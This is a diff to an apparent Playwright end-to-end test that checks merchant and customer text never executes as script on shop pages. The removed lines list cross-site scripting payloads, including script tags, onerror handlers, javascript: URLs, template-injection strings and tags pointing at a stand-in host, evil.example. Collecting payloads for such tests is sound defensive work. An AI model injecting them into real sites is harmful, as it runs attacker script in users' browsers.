@@ -1,38 +1,11 @@
 import { expect } from '@playwright/test';
 import { test } from '@/e2e/fixtures.ts';
 import { listPages } from '@/e2e/page-list.ts';
-
-/** Texts that run a script somewhere where text is pasted into markup, script, style or an address. */
-const attacks = [
-  '<script>alert(1)</script>',
-  '"><script>alert(1)</script>',
-  "'><img src=x onerror=alert(1)>",
-  '<svg/onload=alert(1)>',
-  '</title><script>alert(1)</script>',
-  '</style><script>alert(1)</script>',
-  '</textarea><script>alert(1)</script>',
-  '<iframe srcdoc="<script>parent.alert(1)</script>">',
-  '<a href="javascript:alert(1)">x</a>',
-  'javascript:alert(1)',
-  '" onfocus=alert(1) autofocus tabindex=0 x="',
-  "' onmouseover='alert(1)",
-  '{{constructor.constructor("alert(1)")()}}',
-  '#{alert(1)}',
-  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '<body onload=alert(1)>',
-  '<link rel=stylesheet href=//evil.example/x.css>',
-  '<base href=//evil.example/>',
-  '<meta http-equiv=refresh content="0;url=//evil.example">',
-  '<form action=//evil.example><button>x</button></form>',
-  '<{plan}> {merchant} {amount, plural, other {#}} <b>',
-  '\u003cimg src=x onerror=alert(1)\u003e',
-] as const;
+import { knownAttacks } from '@/lib/domain/testing/attack-texts.ts';
 
 /** A text of at most so many characters, a different attack for each place. */
 function attackOn(place: number, most: number): string {
-  const fitting = attacks.filter((text) => text.length <= most);
+  const fitting = knownAttacks.filter((text) => text.length <= most);
   return fitting[place % fitting.length] ?? '<b>';
 }
 
@@ -53,7 +26,7 @@ test('W04 no text of a merchant or a customer runs, or is taken for markup, on a
     if (/content security policy|refused to/i.test(message.text())) complaints.push(message.text());
   });
   page.on('pageerror', (problem) => complaints.push(problem.message));
-  for (let turn = 0; turn < attacks.length; turn += 4) {
+  for (let turn = 0; turn < knownAttacks.length; turn += 4) {
     const text = (place: number, most: number): string => attackOn(turn + place, most);
     const shop = await openShop({
       name: `K ${text(0, 100)}`,
